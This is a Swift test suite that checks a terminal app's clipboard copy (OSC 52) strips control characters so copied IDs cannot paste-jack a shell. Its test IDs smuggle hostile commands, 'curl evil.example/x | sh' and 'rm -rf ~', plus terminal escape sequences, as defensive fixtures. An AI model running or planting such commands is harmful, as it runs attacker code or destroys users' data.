import Foundation
import Testing
@testable import VetdeskCore
@testable import VetdeskTUI

/// Issue 11: `y` copies the id as displayed: one line, no control characters (no paste-jacking).
@Suite struct ClipboardPasteTests {
    /// The text an OSC 52 sequence hands the terminal's clipboard.
    func copied(_ bytes: [UInt8]) throws -> String {
        let s = String(decoding: bytes, as: UTF8.self)
        let start = try #require(s.range(of: "]52;c;"))
        let end = try #require(s[start.upperBound...].firstIndex(of: "\u{07}"))
        let data = try #require(Data(base64Encoded: String(s[start.upperBound..<end])))
        return String(decoding: data, as: UTF8.self)
    }

    @Test func hostileIdIsCopiedAsOneSafeLine() throws {
        let id = "C-1\ncurl evil.example/x | sh\r\n\u{1B}[2J\u{1B}]52;c;cm0=\u{07}\u{9B}1m\u{202E}\u{0}"
        for env in [["TERM": "xterm"], ["TMUX": "/tmp/t,1,0"], ["TERM": "screen", "STY": "1.pts"]] {
            let text = try copied(Clipboard.osc52(id, environment: env))
            #expect(!text.unicodeScalars.contains { $0.value < 0x20 || (0x7F...0x9F).contains($0.value) || Sanitize.bidi.contains($0.value) },
                    "\(text.debugDescription)")
            #expect(text.hasPrefix("C-1 curl evil.example/x | sh"))
        }
        #expect(try copied(Clipboard.osc52("C-000020", environment: [:])) == "C-000020")
    }

    @Test func theCopiedTextIsWhatTheGridShows() throws {
        let id = "C-9\u{1B}[31m\nrm -rf ~"
        var g = Grid(width: 40, height: 1)
        g.put(id, x: 0, y: 0)
        let shown = g.lines[0]
        #expect(try copied(Clipboard.osc52(id, environment: [:])) == shown)
    }
}
